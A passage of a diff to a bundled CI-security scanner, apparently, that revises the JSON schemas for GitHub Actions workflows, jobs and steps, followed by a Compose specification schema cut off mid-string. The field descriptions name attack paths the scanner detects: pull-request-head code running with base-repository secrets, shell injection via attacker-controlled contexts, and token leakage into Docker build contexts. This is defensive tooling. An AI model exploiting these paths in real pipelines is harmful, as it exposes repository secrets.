   description: "A GitHub Actions workflow file as a whole: its triggers, its top-level permissions and environment. Comes from every `.github/workflows/*.yml` / `*.yaml` that is a YAML mapping. Each job is a `workflow.job` subject and each step a `workflow.step` subject. Composite actions (`action.yml`) have no `workflow` subject.",
   type: "object",
   additionalProperties: false,
-  required: ["on", "env", "inheritingJobs"],
+  required: ["on", "env"],
   properties: {
     name: {
       description: "The workflow's `name:` as text. Absent when not written.",
@@ -41946,11 +40855,6 @@ var workflow_schema_default = {
     permissions: {
       description: 'The top-level `permissions:` as written: `read-all`, `write-all`, `{}` or a map of scopes to `read` / `write` / `none` (`{ "contents": "read" }`). Absent when not written, in which case jobs get the repository\'s default token permissions.'
     },
-    inheritingJobs: {
-      description: "The ids of the jobs that declare no `permissions:` of their own and so get the top-level ones (a job that calls a reusable workflow included). Empty when every job sets its own.",
-      type: "array",
-      items: { type: "string" }
-    },
     env: {
       description: 'The top-level `env:` by name, scalar values as text (`true` \u2192 `"true"`), `null` as `""`; a value that is no scalar is left out. Empty when not written.',
       type: "object",
@@ -41964,7 +40868,7 @@ var workflow_job_schema_default = {
   $schema: "https://json-schema.org/draft/2020-12/schema",
   $id: "https://containment.dev/schemas/subjects/workflow.job.json",
   title: "workflow.job",
-  description: "One job of a workflow, kept small: its steps, `uses:`, container and services are subjects of their own (`workflow.step`, `action-ref`, `container`, `image`). Comes from every entry of `jobs:` in a workflow file that is a mapping, named by the job's id. It also sums up what its steps do (`builds`, `composeFiles`, `runsDocker`) so a rule can judge the job's trigger against them.",
+  description: "One job of a workflow, kept small: its steps, `uses:`, container and services are subjects of their own (`workflow.step`, `action-ref`, `container`, `image`). Comes from every entry of `jobs:` in a workflow file that is a mapping, named by the job's id. It also sums up what its steps do (`builds`, `composeFiles`, `checksOutPrHead`, `buildsPrHead`) so a rule can judge the job's trigger against them.",
   type: "object",
   additionalProperties: false,
   required: ["id", "needs", "services", "env", "triggers", "builds", "composeFiles"],
@@ -42030,6 +40934,10 @@ var workflow_job_schema_default = {
       type: "array",
       items: { type: "string" }
     },
+    checksOutPrHead: {
+      description: "One of the job's steps checks out the pull request's head, the contributor's code (see `workflow.step`). Absent otherwise (never `false`).",
+      const: true
+    },
     builds: {
       description: "Dockerfiles the job's steps build, repository-relative, each once, in step order (see `workflow.step`). Empty when none.",
       type: "array",
@@ -42040,12 +40948,8 @@ var workflow_job_schema_default = {
       type: "array",
       items: { type: "string" }
     },
-    runsDocker: {
-      description: "A step of the job runs a container tool (`docker`, `docker-compose`, `podman`, `buildah`) or a `docker/*` action. Absent otherwise (never `false`).",
-      const: true
-    },
-    callsImageBuilder: {
-      description: "Set by the link stage: the reusable workflow this job calls is a file of this repository whose steps build or push an image (`docker build|push`, `docker/build-push-action`, `docker/login-action`). Absent otherwise (never `false`).",
+    buildsPrHead: {
+      description: "A step builds or runs something (a Dockerfile, a Compose file) after the pull request's head was checked out: with a `pull_request_target` or `workflow_run` trigger the contributor's code then runs with the base repository's secrets and token. Absent otherwise (never `false`).",
       const: true
     }
   }
@@ -42113,49 +41017,19 @@ var workflow_step_schema_default = {
       type: "array",
       items: { type: "string" }
     },
-    checkedOutRefs: {
-      description: "The refs checked out by this step or an earlier step of its job, as written with expressions normalized (`${{github.event.pull_request.head.sha}}`: `['x']` read as `.x`, spaces removed): `actions/checkout`'s `ref` and `repository` inputs, the arguments of `git fetch|checkout|switch|pull|reset|clone`, and `refs/pull/N/head` for `gh pr checkout N`. Rules decide which of them are a pull request's head. Absent when no step so far names a ref.",
+    checksOutPrHead: {
+      description: "This step checks out a pull request's head (the contributor's code): `actions/checkout` with a `ref:` or `repository:` naming it (`${{ github.event.pull_request.head.sha }}`, `${{ github.head_ref }}`, `refs/pull/\u2026`), or a `gh pr checkout` / `git fetch|checkout|switch|pull|reset` of it in `run:`. Absent otherwise (never `false`).",
+      const: true
+    },
+    prHeadCheckedOut: {
+      description: "The pull request's head is checked out when this step runs, by this step or an earlier step of its job. Absent otherwise (never `false`).",
+      const: true
+    },
+    untrustedExpressions: {
+      description: "Attacker-controlled contexts (`github.event.pull_request.title`, `github.head_ref`, `github.event.commits.*.message`, \u2026) that `${{ }}` expressions expand into this step's `run:` script, where they become shell code; normalized to dotted form with `*` for indexes, each once, in order. Absent when there are none (and for `uses:` steps).",
       type: "array",
       minItems: 1,
       items: { type: "string" }
-    },
-    commands: {
-      description: "The simple commands of the step's `run:` script, each as `program arg \u2026` (quotes removed, `${{ }}` kept, at most 200 of 300 characters each); a script in a non-POSIX shell gives one entry per line. Absent for a `uses:` step.",
-      type: "array",
-      items: { type: "string" }
-    },
-    expansions: {
-      description: "What the `${{ }}` expressions of the step's script-like values expand into them: `input` is `run` for the `run:` script, `<action>:<input>` (`actions/github-script:script`) for a `with:` input of a `uses:` step; `context` a reference whose text reaches the value (dotted, `*` for an index: `github.event.commits.*.message`), after following `env.X` to the `env:` that defines it (step, job, workflow) and `matrix.x` to the matrix that holds it, named by `via`. A boolean or numeric result (a comparison, `contains(\u2026)`, `startsWith(\u2026)`, `x && 'literal'`) expands no reference. Each pair once, in order. Absent when there are none.",
-      type: "array",
-      minItems: 1,
-      items: {
-        type: "object",
-        additionalProperties: false,
-        required: ["input", "context"],
-        properties: {
-          input: { description: "`run`, or `<owner>/<repo>[/<path>]:<input>` in lower case for an action's input.", type: "string" },
-          context: { description: "The context reference whose text is expanded (`github.event.issue.title`).", type: "string" },
-          via: { description: "The `env.X` or `matrix.x` reference that carried it into the value. Absent when the value names the context itself.", type: "string" }
-        }
-      }
-    },
-    allSecrets: {
-      description: "An expression in the step's `run:`, `with:` or `env:` reads the whole `secrets` context (`${{ toJSON(secrets) }}`), handing every secret of the repository to the step. Absent otherwise (never `false`).",
-      const: true
-    },
-    buildContexts: {
-      description: "The build contexts this step sends to Docker, repository-relative (`''` is the repository root, which holds `.git`): the context argument of `docker build` / `docker buildx build` / `podman build`, and `docker/build-push-action`'s `context` when it is a path. Absent when none.",
-      type: "array",
-      minItems: 1,
-      items: { type: "string" }
-    },
-    credentialPersisted: {
-      description: "An earlier step of the job, or this one, ran `actions/checkout` without `persist-credentials: false`, which leaves the job's token in `.git/config` of the workspace. Absent otherwise (never `false`).",
-      const: true
-    },
-    gitInBuildContext: {
-      description: "Set by the link stage: a build context of this step holds the repository's `.git` and no `.dockerignore` of that context (nor `<Dockerfile>.dockerignore`) excludes `.git/config`. Absent otherwise (never `false`).",
-      const: true
     },
     builds: {
       description: "Dockerfiles this step builds, repository-relative: `docker build [-f file] [context]` (resolved against the working directory and `cd`), or `docker/build-push-action`'s `file` / `context`. A path holding a variable, or outside the workspace, is kept as written. Absent when none.",
@@ -43147,40 +42021,6 @@ function byPlace(a, b) {
   return (a.path < b.path ? -1 : a.path > b.path ? 1 : 0) || a.range.start.line - b.range.start.line || a.range.start.column - b.range.start.column || (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0);
 }
 
-// src/link/build-context-git.ts
-var import_ignore = __toESM(require_ignore(), 1);
-function buildIgnorePaths(step) {
-  if (!step.credentialPersisted || !step.buildContexts?.includes("")) return [];
-  return [".dockerignore", ...(step.builds ?? []).map((dockerfile) => `${dockerfile}.dockerignore`)];
-}
-function linkBuildContextGit(ignoreFiles) {
-  return (state) => {
-    for (const document of state.documents) {
-      if (document.kind !== "workflow" && document.kind !== "action") continue;
-      for (const subject of state.subjectsOf(document)) {
-        if (subject.type !== "workflow.step") continue;
-        const step = subject;
-        const [root, ...specific] = buildIgnorePaths(step.value);
-        if (root === void 0) continue;
-        const texts = (step.value.builds?.length ? specific : []).map((path) => ignoreFiles.get(path) ?? ignoreFiles.get(root));
-        const decisive = texts.length ? texts : [ignoreFiles.get(root)];
-        if (decisive.some((text3) => !excludesGitConfig(text3))) state.update(step, { value: { ...step.value, gitInBuildContext: true } });
-      }
-    }
-  };
-}
-function excludesGitConfig(text3) {
-  if (text3 === void 0) return false;
-  const lines = text3.split(/\r?\n/).map((line) => line.trim()).filter((line) => line !== "" && !line.startsWith("#"));
-  const patterns = lines.map((line) => line.replace(/^(!?)\/+/, "$1"));
-  if (!(0, import_ignore.default)().add(patterns).ignores(".git/config")) return false;
-  return !patterns.some((line) => line.startsWith("!") && reaches2(line.slice(1)));
-}
-function reaches2(pattern) {
-  const matcher = (0, import_ignore.default)().add(pattern);
-  return [".git", ".git/config", ".git/x"].some((path) => matcher.ignores(path)) || pattern.includes(".git");
-}
-
 // src/core/compose-model.ts
 function composeModel(document) {
   return document.compose;
@@ -43372,7 +42212,7 @@ function host(state, subject, merged, evidence = []) {
 var linkComposeExtends = (state) => {
   const byPath = new Map(state.documents.filter((d) => d.kind === "compose").map((d) => [d.path, d]));
   const done = /* @__PURE__ */ new Set();
-  const resolve8 = (document, name, chain) => {
+  const resolve7 = (document, name, chain) => {
     const key = `${document.path}\0${name}`;
     if (done.has(key)) return true;
     const model = composeModel(document)?.services.get(name);
@@ -43408,7 +42248,7 @@ var linkComposeExtends = (state) => {
       return false;
     }
     done.delete(key);
-    const ok = resolve8(other, target.service, [...chain, { document, name }]);
+    const ok = resolve7(other, target.service, [...chain, { document, name }]);
     done.add(key);
     if (!ok) return false;
     const base = layerOf(state, other, target.service);
@@ -43420,7 +42260,7 @@ var linkComposeExtends = (state) => {
     return true;
   };
   for (const document of byPath.values()) {
-    for (const name of composeModel(document)?.services.keys() ?? []) resolve8(document, name, []);
+    for (const name of composeModel(document)?.services.keys() ?? []) resolve7(document, name, []);
   }
 };
 function extendsPointer(document, name) {
@@ -43521,26 +42361,6 @@ var LinkState = class {
   }
 };
 
-// src/link/workflow-calls.ts
-var linkWorkflowCalls = (state) => {
-  const byPath = new Map(state.documents.map((document) => [document.path, document]));
-  for (const document of state.documents) {
-    if (document.kind !== "workflow") continue;
-    for (const subject of state.subjectsOf(document)) {
-      if (subject.type !== "workflow.job") continue;
-      const job = subject;
-      const uses = job.value.uses?.trim();
-      if (!uses || !/^(?:\.\/|\$\/)/.test(uses)) continue;
-      const called = byPath.get(uses.slice(2).split("@")[0]);
-      if (called?.kind !== "workflow") continue;
-      const builder = state.subjectsOf(called).find((s) => s.type === "workflow.job" && (s.value.runsDocker || s.value.builds.length > 0));
-      if (!builder) continue;
-      const evidence = [...job.evidence ?? [], { document: called, pointer: builder.pointer, message: `job ${builder.name} of ${called.path} builds or pushes images` }];
-      state.update(job, { value: { ...job.value, callsImageBuilder: true }, evidence });
-    }
-  }
-};
-
 // src/link/workflow-files.ts
 var COMPOSE_DEFAULTS = ["compose.yaml", "compose.yml", "docker-compose.yaml", "docker-compose.yml"];
 var OVERRIDE_DEFAULTS = ["compose.override.yaml", "compose.override.yml", "docker-compose.override.yaml", "docker-compose.override.yml"];
@@ -43605,9 +42425,9 @@ function unique(paths) {
 
 // src/link/link.ts
 var LINKERS = [linkWorkflowFiles, linkComposeExtends, linkComposeOverrides, linkComposeBuild];
-function link(documents, ignoreFiles = /* @__PURE__ */ new Map()) {
+function link(documents) {
   const state = new LinkState(documents);
-  for (const linker of [...LINKERS, linkWorkflowCalls, linkBuildContextGit(ignoreFiles)]) linker(state);
+  for (const linker of LINKERS) linker(state);
   return state.result();
 }
 
@@ -46084,9 +44904,9 @@ var compose_spec_schema_default = {
 var composeValidate = validate10;
 var schema11 = { "$id": "compose_spec.json", "type": "object", "title": "Compose Specification", "description": "The Compose file is a YAML file defining a multi-containers based application.", "properties": { "version": { "type": "string", "deprecated": true, "description": "declared for backward compatibility, ignored. Please remove it." }, "name": { "type": "string", "description": "define the Compose project name, until user defines one explicitly." }, "include": { "type": "array", "items": { "$ref": "#/definitions/include" }, "description": "compose sub-projects to be included." }, "services": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/service" } }, "additionalProperties": false, "description": "The services that will be used by your application." }, "models": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/model" } }, "description": "Language models that will be used by your application." }, "networks": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/network" } }, "description": "Networks that are shared among multiple services." }, "volumes": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/volume" } }, "additionalProperties": false, "description": "Named volumes that are shared among multiple services." }, "secrets": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/secret" } }, "additionalProperties": false, "description": "Secrets that are shared among multiple services." }, "configs": { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "$ref": "#/definitions/config" } }, "additionalProperties": false, "description": "Configurations that are shared among multiple services." } }, "patternProperties": { "^x-": {} }, "additionalProperties": false, "definitions": { "service": { "type": "object", "description": "Configuration for a service.", "properties": { "develop": { "$ref": "#/definitions/development" }, "deploy": { "$ref": "#/definitions/deployment" }, "annotations": { "$ref": "#/definitions/list_or_dict" }, "attach": { "type": ["boolean", "string"] }, "build": { "description": "Configuration options for building the service's image.", "oneOf": [{ "type": "string", "description": "Path to the build context. Can be a relative path or a URL." }, { "type": "object", "properties": { "context": { "type": "string", "description": "Path to the build context. Can be a relative path or a URL." }, "dockerfile": { "type": "string", "description": "Name of the Dockerfile to use for building the image." }, "dockerfile_inline": { "type": "string", "description": "Inline Dockerfile content to use instead of a Dockerfile from the build context." }, "entitlements": { "type": "array", "items": { "type": "string" }, "description": "List of extra privileged entitlements to grant to the build process." }, "args": { "$ref": "#/definitions/list_or_dict", "description": "Build-time variables, specified as a map or a list of KEY=VAL pairs." }, "ssh": { "$ref": "#/definitions/list_or_dict", "description": "SSH agent socket or keys to expose to the build. Format is either a string or a list of 'default|<id>[=<socket>|<key>[,<key>]]'." }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Labels to apply to the built image." }, "cache_from": { "type": "array", "items": { "type": "string" }, "description": "List of sources the image builder should use for cache resolution" }, "cache_to": { "type": "array", "items": { "type": "string" }, "description": "Cache destinations for the build cache." }, "no_cache": { "type": ["boolean", "string"], "description": "Do not use cache when building the image." }, "additional_contexts": { "$ref": "#/definitions/list_or_dict", "description": "Additional build contexts to use, specified as a map of name to context path or URL." }, "network": { "type": "string", "description": "Network mode to use for the build. Options include 'default', 'none', 'host', or a network name." }, "pull": { "type": ["boolean", "string"], "description": "Always attempt to pull a newer version of the image." }, "target": { "type": "string", "description": "Build stage to target in a multi-stage Dockerfile." }, "shm_size": { "type": ["integer", "string"], "description": "Size of /dev/shm for the build container. A string value can use suffix like '2g' for 2 gigabytes." }, "extra_hosts": { "$ref": "#/definitions/extra_hosts", "description": "Add hostname mappings for the build container." }, "isolation": { "type": "string", "description": "Container isolation technology to use for the build process." }, "privileged": { "type": ["boolean", "string"], "description": "Give extended privileges to the build container." }, "secrets": { "$ref": "#/definitions/service_config_or_secret", "description": "Secrets to expose to the build. These are accessible at build-time." }, "tags": { "type": "array", "items": { "type": "string" }, "description": "Additional tags to apply to the built image." }, "ulimits": { "$ref": "#/definitions/ulimits", "description": "Override the default ulimits for the build container." }, "platforms": { "type": "array", "items": { "type": "string" }, "description": "Platforms to build for, e.g., 'linux/amd64', 'linux/arm64', or 'windows/amd64'." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] }, "blkio_config": { "type": "object", "description": "Block IO configuration for the service.", "properties": { "device_read_bps": { "type": "array", "description": "Limit read rate (bytes per second) from a device.", "items": { "$ref": "#/definitions/blkio_limit" } }, "device_read_iops": { "type": "array", "description": "Limit read rate (IO per second) from a device.", "items": { "$ref": "#/definitions/blkio_limit" } }, "device_write_bps": { "type": "array", "description": "Limit write rate (bytes per second) to a device.", "items": { "$ref": "#/definitions/blkio_limit" } }, "device_write_iops": { "type": "array", "description": "Limit write rate (IO per second) to a device.", "items": { "$ref": "#/definitions/blkio_limit" } }, "weight": { "type": ["integer", "string"], "description": "Block IO weight (relative weight) for the service, between 10 and 1000." }, "weight_device": { "type": "array", "description": "Block IO weight (relative weight) for specific devices.", "items": { "$ref": "#/definitions/blkio_weight" } } }, "additionalProperties": false }, "cap_add": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Add Linux capabilities. For example, 'CAP_SYS_ADMIN', 'SYS_ADMIN', or 'NET_ADMIN'." }, "cap_drop": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Drop Linux capabilities. For example, 'CAP_SYS_ADMIN', 'SYS_ADMIN', or 'NET_ADMIN'." }, "cgroup": { "type": "string", "enum": ["host", "private"], "description": "Specify the cgroup namespace to join. Use 'host' to use the host's cgroup namespace, or 'private' to use a private cgroup namespace." }, "cgroup_parent": { "type": "string", "description": "Specify an optional parent cgroup for the container." }, "command": { "$ref": "#/definitions/command", "description": "Override the default command declared by the container image, for example 'CMD' in Dockerfile." }, "configs": { "$ref": "#/definitions/service_config_or_secret", "description": "Grant access to Configs on a per-service basis." }, "container_name": { "type": "string", "description": "Specify a custom container name, rather than a generated default name.", "pattern": "[a-zA-Z0-9][a-zA-Z0-9_.-]+" }, "cpu_count": { "oneOf": [{ "type": "string" }, { "type": "integer", "minimum": 0 }], "description": "Number of usable CPUs." }, "cpu_percent": { "oneOf": [{ "type": "string" }, { "type": "integer", "minimum": 0, "maximum": 100 }], "description": "Percentage of CPU resources to use." }, "cpu_shares": { "type": ["number", "string"], "description": "CPU shares (relative weight) for the container." }, "cpu_quota": { "type": ["number", "string"], "description": "Limit the CPU CFS (Completely Fair Scheduler) quota." }, "cpu_period": { "type": ["number", "string"], "description": "Limit the CPU CFS (Completely Fair Scheduler) period." }, "cpu_rt_period": { "type": ["number", "string"], "description": "Limit the CPU real-time period in microseconds or a duration." }, "cpu_rt_runtime": { "type": ["number", "string"], "description": "Limit the CPU real-time runtime in microseconds or a duration." }, "cpus": { "type": ["number", "string"], "description": "Number of CPUs to use. A floating-point value is supported to request partial CPUs." }, "cpuset": { "type": "string", "description": "CPUs in which to allow execution (0-3, 0,1)." }, "credential_spec": { "type": "object", "description": "Configure the credential spec for managed service account.", "properties": { "config": { "type": "string", "description": "The name of the credential spec Config to use." }, "file": { "type": "string", "description": "Path to a credential spec file." }, "registry": { "type": "string", "description": "Path to a credential spec in the Windows registry." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "depends_on": { "oneOf": [{ "$ref": "#/definitions/list_of_strings" }, { "type": "object", "additionalProperties": false, "patternProperties": { "^[a-zA-Z0-9._-]+$": { "type": "object", "additionalProperties": false, "patternProperties": { "^x-": {} }, "properties": { "restart": { "type": ["boolean", "string"], "description": "Whether to restart dependent services when this service is restarted." }, "required": { "type": "boolean", "default": true, "description": "Whether the dependency is required for the dependent service to start." }, "condition": { "type": "string", "enum": ["service_started", "service_healthy", "service_completed_successfully"], "description": "Condition to wait for. 'service_started' waits until the service has started, 'service_healthy' waits until the service is healthy (as defined by its healthcheck), 'service_completed_successfully' waits until the service has completed successfully." } }, "required": ["condition"] } } }], "description": "Express dependency between services. Service dependencies cause services to be started in dependency order. The dependent service will wait for the dependency to be ready before starting." }, "device_cgroup_rules": { "$ref": "#/definitions/list_of_strings", "description": "Add rules to the cgroup allowed devices list." }, "devices": { "type": "array", "description": "List of device mappings for the container.", "items": { "oneOf": [{ "type": "string" }, { "type": "object", "required": ["source"], "properties": { "source": { "type": "string", "description": "Path on the host to the device." }, "target": { "type": "string", "description": "Path in the container where the device will be mapped." }, "permissions": { "type": "string", "description": "Cgroup permissions for the device (rwm)." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] } }, "dns": { "$ref": "#/definitions/string_or_list", "description": "Custom DNS servers to set for the service container." }, "dns_opt": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Custom DNS options to be passed to the container's DNS resolver." }, "dns_search": { "$ref": "#/definitions/string_or_list", "description": "Custom DNS search domains to set on the service container." }, "domainname": { "type": "string", "description": "Custom domain name to use for the service container." }, "entrypoint": { "$ref": "#/definitions/command", "description": "Override the default entrypoint declared by the container image, for example 'ENTRYPOINT' in Dockerfile." }, "env_file": { "$ref": "#/definitions/env_file", "description": "Add environment variables from a file or multiple files. Can be a single file path or a list of file paths." }, "label_file": { "$ref": "#/definitions/label_file", "description": "Add metadata to containers using files containing Docker labels." }, "environment": { "$ref": "#/definitions/list_or_dict", "description": "Add environment variables. You can use either an array or a list of KEY=VAL pairs." }, "expose": { "type": "array", "items": { "type": ["string", "number"] }, "uniqueItems": true, "description": "Expose ports without publishing them to the host machine - they'll only be accessible to linked services." }, "extends": { "oneOf": [{ "type": "string" }, { "type": "object", "properties": { "service": { "type": "string", "description": "The name of the service to extend." }, "file": { "type": "string", "description": "The file path where the service to extend is defined." } }, "required": ["service"], "additionalProperties": false }], "description": "Extend another service, in the current file or another file." }, "provider": { "type": "object", "description": "Specify a service which will not be manage by Compose directly, and delegate its management to an external provider.", "required": ["type"], "properties": { "type": { "type": "string", "description": "External component used by Compose to manage setup and teardown lifecycle of the service." }, "options": { "type": "object", "description": "Provider-specific options.", "patternProperties": { "^.+$": { "oneOf": [{ "type": ["string", "number", "boolean"] }, { "type": "array", "items": { "type": ["string", "number", "boolean"] } }] } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "external_links": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Link to services started outside this Compose application. Specify services as <service_name>:<alias>." }, "extra_hosts": { "$ref": "#/definitions/extra_hosts", "description": "Add hostname mappings to the container network interface configuration." }, "gpus": { "$ref": "#/definitions/gpus", "description": "Define GPU devices to use. Can be set to 'all' to use all GPUs, or a list of specific GPU devices." }, "group_add": { "type": "array", "items": { "type": ["string", "number"] }, "uniqueItems": true, "description": "Add additional groups which user inside the container should be member of." }, "healthcheck": { "$ref": "#/definitions/healthcheck", "description": "Configure a health check for the container to monitor its health status." }, "hostname": { "type": "string", "description": "Define a custom hostname for the service container." }, "image": { "type": "string", "description": "Specify the image to start the container from. Can be a repository/tag, a digest, or a local image ID." }, "init": { "type": ["boolean", "string"], "description": "Run as an init process inside the container that forwards signals and reaps processes." }, "ipc": { "type": "string", "description": "IPC sharing mode for the service container. Use 'host' to share the host's IPC namespace, 'service:[service_name]' to share with another service, or 'shareable' to allow other services to share this service's IPC namespace." }, "isolation": { "type": "string", "description": "Container isolation technology to use. Supported values are platform-specific." }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to containers using Docker labels. You can use either an array or a list." }, "links": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Link to containers in another service. Either specify both the service name and a link alias (SERVICE:ALIAS), or just the service name." }, "logging": { "type": "object", "description": "Logging configuration for the service.", "properties": { "driver": { "type": "string", "description": "Logging driver to use, such as 'json-file', 'syslog', 'journald', etc." }, "options": { "type": "object", "description": "Options for the logging driver.", "patternProperties": { "^.+$": { "type": ["string", "number", "null"] } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "mac_address": { "type": "string", "description": "Container MAC address to set." }, "mem_limit": { "type": ["number", "string"], "description": "Memory limit for the container. A string value can use suffix like '2g' for 2 gigabytes." }, "mem_reservation": { "type": ["string", "integer"], "description": "Memory reservation for the container." }, "mem_swappiness": { "type": ["integer", "string"], "description": "Container memory swappiness as percentage (0 to 100)." }, "memswap_limit": { "type": ["number", "string"], "description": "Amount of memory the container is allowed to swap to disk. Set to -1 to enable unlimited swap." }, "network_mode": { "type": "string", "description": "Network mode. Values can be 'bridge', 'host', 'none', 'service:[service name]', or 'container:[container name]'." }, "models": { "oneOf": [{ "$ref": "#/definitions/list_of_strings" }, { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "type": "object", "properties": { "endpoint_var": { "type": "string", "description": "Environment variable set to AI model endpoint." }, "model_var": { "type": "string", "description": "Environment variable set to AI model name." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } } }], "description": "AI Models to use, referencing entries under the top-level models key." }, "networks": { "oneOf": [{ "$ref": "#/definitions/list_of_strings" }, { "type": "object", "patternProperties": { "^[a-zA-Z0-9._-]+$": { "oneOf": [{ "type": "object", "properties": { "aliases": { "$ref": "#/definitions/list_of_strings", "description": "Alternative hostnames for this service on the network." }, "interface_name": { "type": "string", "description": "Interface network name used to connect to network" }, "ipv4_address": { "type": "string", "description": "Specify a static IPv4 address for this service on this network." }, "ipv6_address": { "type": "string", "description": "Specify a static IPv6 address for this service on this network." }, "link_local_ips": { "$ref": "#/definitions/list_of_strings", "description": "List of link-local IPs." }, "mac_address": { "type": "string", "description": "Specify a MAC address for this service on this network." }, "driver_opts": { "type": "object", "description": "Driver options for this network.", "patternProperties": { "^.+$": { "type": ["string", "number"] } } }, "priority": { "type": "number", "description": "Specify the priority for the network connection." }, "gw_priority": { "type": "number", "description": "Specify the gateway priority for the network connection." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, { "type": "null" }] } }, "additionalProperties": false }], "description": "Networks to join, referencing entries under the top-level networks key. Can be a list of network names or a mapping of network name to network configuration." }, "oom_kill_disable": { "type": ["boolean", "string"], "description": "Disable OOM Killer for the container." }, "oom_score_adj": { "oneOf": [{ "type": "string" }, { "type": "integer", "minimum": -1e3, "maximum": 1e3 }], "description": "Tune host's OOM preferences for the container (accepts -1000 to 1000)." }, "pid": { "type": ["string", "null"], "description": "PID mode for container." }, "pids_limit": { "type": ["number", "string"], "description": "Tune a container's PIDs limit. Set to -1 for unlimited PIDs." }, "platform": { "type": "string", "description": "Target platform to run on, e.g., 'linux/amd64', 'linux/arm64', or 'windows/amd64'." }, "ports": { "type": "array", "description": "Expose container ports. Short format ([HOST:]CONTAINER[/PROTOCOL]).", "items": { "oneOf": [{ "type": "number" }, { "type": "string" }, { "type": "object", "properties": { "name": { "type": "string", "description": "A human-readable name for this port mapping." }, "mode": { "type": "string", "description": "The port binding mode, either 'host' for publishing a host port or 'ingress' for load balancing." }, "host_ip": { "type": "string", "description": "The host IP to bind to." }, "target": { "type": ["integer", "string"], "description": "The port inside the container." }, "published": { "type": ["string", "integer"], "description": "The publicly exposed port." }, "protocol": { "type": "string", "description": "The port protocol (tcp or udp)." }, "app_protocol": { "type": "string", "description": "Application protocol to use with the port (e.g., http, https, mysql)." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] }, "uniqueItems": true }, "post_start": { "type": "array", "items": { "$ref": "#/definitions/service_hook" }, "description": "Commands to run after the container starts. If any command fails, the container stops." }, "pre_stop": { "type": "array", "items": { "$ref": "#/definitions/service_hook" }, "description": "Commands to run before the container stops. If any command fails, the container stop is aborted." }, "privileged": { "type": ["boolean", "string"], "description": "Give extended privileges to the service container." }, "profiles": { "$ref": "#/definitions/list_of_strings", "description": "List of profiles for this service. When profiles are specified, services are only started when the profile is activated." }, "pull_policy": { "type": "string", "pattern": "always|never|build|if_not_present|missing|refresh|daily|weekly|every_([0-9]+[wdhms])+", "description": "Policy for pulling images. Options include: 'always', 'never', 'if_not_present', 'missing', 'build', or time-based refresh policies." }, "pull_refresh_after": { "type": "string", "description": "Time after which to refresh the image. Used with pull_policy=refresh." }, "read_only": { "type": ["boolean", "string"], "description": "Mount the container's filesystem as read only." }, "restart": { "type": "string", "description": "Restart policy for the service container. Options include: 'no', 'always', 'on-failure', and 'unless-stopped'." }, "runtime": { "type": "string", "description": "Runtime to use for this container, e.g., 'runc'." }, "scale": { "type": ["integer", "string"], "description": "Number of containers to deploy for this service." }, "security_opt": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Override the default labeling scheme for each container." }, "shm_size": { "type": ["number", "string"], "description": "Size of /dev/shm. A string value can use suffix like '2g' for 2 gigabytes." }, "secrets": { "$ref": "#/definitions/service_config_or_secret", "description": "Grant access to Secrets on a per-service basis." }, "sysctls": { "$ref": "#/definitions/list_or_dict", "description": "Kernel parameters to set in the container. You can use either an array or a list." }, "stdin_open": { "type": ["boolean", "string"], "description": "Keep STDIN open even if not attached." }, "stop_grace_period": { "type": "string", "description": "Time to wait for the container to stop gracefully before sending SIGKILL (e.g., '1s', '1m30s')." }, "stop_signal": { "type": "string", "description": "Signal to stop the container (e.g., 'SIGTERM', 'SIGINT')." }, "storage_opt": { "type": "object", "description": "Storage driver options for the container." }, "tmpfs": { "$ref": "#/definitions/string_or_list", "description": "Mount a temporary filesystem (tmpfs) into the container. Can be a single value or a list." }, "tty": { "type": ["boolean", "string"], "description": "Allocate a pseudo-TTY to service container." }, "ulimits": { "$ref": "#/definitions/ulimits", "description": "Override the default ulimits for a container." }, "use_api_socket": { "type": "boolean", "description": "Bind mount Docker API socket and required auth." }, "user": { "type": "string", "description": "Username or UID to run the container process as." }, "uts": { "type": "string", "description": "UTS namespace to use. 'host' shares the host's UTS namespace." }, "userns_mode": { "type": "string", "description": "User namespace to use. 'host' shares the host's user namespace." }, "volumes": { "type": "array", "description": "Mount host paths or named volumes accessible to the container. Short syntax (VOLUME:CONTAINER_PATH[:MODE])", "items": { "oneOf": [{ "type": "string" }, { "type": "object", "required": ["type"], "properties": { "type": { "type": "string", "enum": ["bind", "volume", "tmpfs", "cluster", "npipe", "image"], "description": "The mount type: bind for mounting host directories, volume for named volumes, tmpfs for temporary filesystems, cluster for cluster volumes, npipe for named pipes, or image for mounting from an image." }, "source": { "type": "string", "description": "The source of the mount, a path on the host for a bind mount, a docker image reference for an image mount, or the name of a volume defined in the top-level volumes key. Not applicable for a tmpfs mount." }, "target": { "type": "string", "description": "The path in the container where the volume is mounted." }, "read_only": { "type": ["boolean", "string"], "description": "Flag to set the volume as read-only." }, "consistency": { "type": "string", "description": "The consistency requirements for the mount. Available values are platform specific." }, "bind": { "type": "object", "description": "Configuration specific to bind mounts.", "properties": { "propagation": { "type": "string", "description": "The propagation mode for the bind mount: 'shared', 'slave', 'private', 'rshared', 'rslave', or 'rprivate'." }, "create_host_path": { "type": ["boolean", "string"], "description": "Create the host path if 